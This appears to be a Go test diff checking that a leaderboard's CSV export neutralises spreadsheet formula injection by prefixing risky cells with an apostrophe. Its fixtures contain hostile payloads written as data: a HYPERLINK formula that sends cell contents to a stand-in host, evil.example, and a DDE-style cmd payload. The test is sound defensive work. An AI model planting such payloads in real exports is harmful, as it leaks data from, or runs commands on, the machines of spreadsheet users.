@@ -174,3 +174,63 @@ func TestLanguageColumnIsText(t *testing.T) {
 		}
 	}
 }
+
+// A spreadsheet runs a cell that starts with = + - @ tab or CR as a formula
+// (OWASP "CSV Injection"); every text cell that comes from an endpoint,
+// the catalog or the user must arrive as text.
+func TestRenderCSVNeutralisesFormulas(t *testing.T) {
+	lb := fixtureLeaderboard(t)
+	r := &lb.Rows[0]
+	r.ModelReported = `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	r.Model = "@SUM(1+1)*cmd|' /C calc'!A0"
+	r.Provider = "+1+1"
+	r.Thinking = "-2+3"
+	r.Status = "\t=1"
+	r.Subject = "\r=1"
+	r.Currency = "＝1+1" // fullwidth equals sign: some spreadsheets read it as "="
+	r.Scorers = []string{"=cmd"}
+	r.CILow = 0 // numeric cells are data, never prefixed
+	var buf bytes.Buffer
+	require.NoError(t, Render(&buf, lb, "csv"))
+	recs, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
+	require.NoError(t, err)
+	col := map[string]int{}
+	for i, h := range recs[0] {
+		col[h] = i
+	}
+	row := recs[1]
+	for name, want := range map[string]string{
+		"model_reported": `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
+		"model":          "'@SUM(1+1)*cmd|' /C calc'!A0",
+		"provider":       "'+1+1",
+		"thinking":       "'-2+3",
+		"status":         "'\t=1",
+		"subject":        "'\r=1",
+		"currency":       "'＝1+1",
+		"scorers":        "'=cmd",
+		"ci_low":         "0",
+	} {
+		assert.Equal(t, want, row[col[name]], name)
+	}
+	for _, rec := range recs[2:] {
+		for _, cell := range rec {
+			assert.False(t, strings.HasPrefix(cell, "="), "untouched rows keep plain values: %q", cell)
+		}
+	}
+}
+
+func TestCSVText(t *testing.T) {
+	for in, want := range map[string]string{
+		"":            "",
+		"gsm8k":       "gsm8k",
+		"-0.5":        "'-0.5", // a text cell that looks like a number is still text
+		"a=b":         "a=b",
+		"=1":          "'=1",
+		"@x":          "'@x",
+		"＠x":          "'＠x",
+		"'already":    "'already",
+		"deepseek/r1": "deepseek/r1",
+	} {
+		assert.Equal(t, want, csvText(in), "%q", in)
+	}
+}
